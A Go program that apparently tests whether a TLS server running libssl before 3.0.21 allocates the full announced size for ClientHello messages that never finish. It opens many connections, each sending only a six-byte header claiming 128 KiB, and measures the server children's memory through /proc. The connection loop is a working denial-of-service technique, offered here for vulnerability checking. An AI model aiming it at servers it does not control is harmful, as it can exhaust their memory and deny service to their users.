// SPDX-License-Identifier: Apache-2.0

// Unfinished shows what a TLS server keeps for handshakes that never end. Each
// client says that 128 KiB of its first message follow, sends the beginning, and
// waits. Libssl before 3.0.21 gets the room for all of it at once.
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"time"
)

func main() {
	address := flag.String("address", "", "of the server")
	server := flag.Int("server", 0, "process whose children serve")
	clients := flag.Int("clients", 300, "how many begin a handshake")
	flag.Parse()
	if err := show(*address, *server, *clients); err != nil {
		fmt.Fprintln(os.Stderr, "unfinished:", err)
		os.Exit(1)
	}
}

func show(address string, server, clients int) error {
	before, err := memory(server)
	if err != nil {
		return err
	}
	for range clients {
		c, err := net.DialTimeout("tcp", address, 20*time.Second)
		if err != nil {
			return err
		}
		defer c.Close()
		// A record of six bytes, and in it the head of a ClientHello of 0x20000.
		if _, err := c.Write([]byte{22, 3, 1, 0, 6, 1, 2, 0, 0, 3, 3}); err != nil {
			return err
		}
	}
	time.Sleep(time.Second) // until the server has read them all
	during, err := memory(server)
	if err != nil {
		return err
	}
	word, each := "fixed", (during-before)/clients
	if each > 64 { // half of what was announced
		word = "vulnerable"
	}
	fmt.Printf("%s: %d unfinished handshakes take %d kB of its memory each, %d MB in all\n", word, clients, each, (during-before)/1024)
	return nil
}

// memory is what the children of a process hold for themselves, in kB.
func memory(server int) (int, error) {
	list, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", server, server))
	if err != nil {
		return 0, err
	}
	sum := 0
	for _, pid := range strings.Fields(string(list)) {
		status, err := os.ReadFile("/proc/" + pid + "/status")
		if err != nil {
			return 0, err
		}
		for line := range strings.Lines(string(status)) {
			if text, ok := strings.CutPrefix(line, "RssAnon:"); ok {
				kb, err := strconv.Atoi(strings.Fields(text)[0])
				if err != nil {
					return 0, err
				}
				sum += kb
			}
		}
	}
	return sum, nil
}
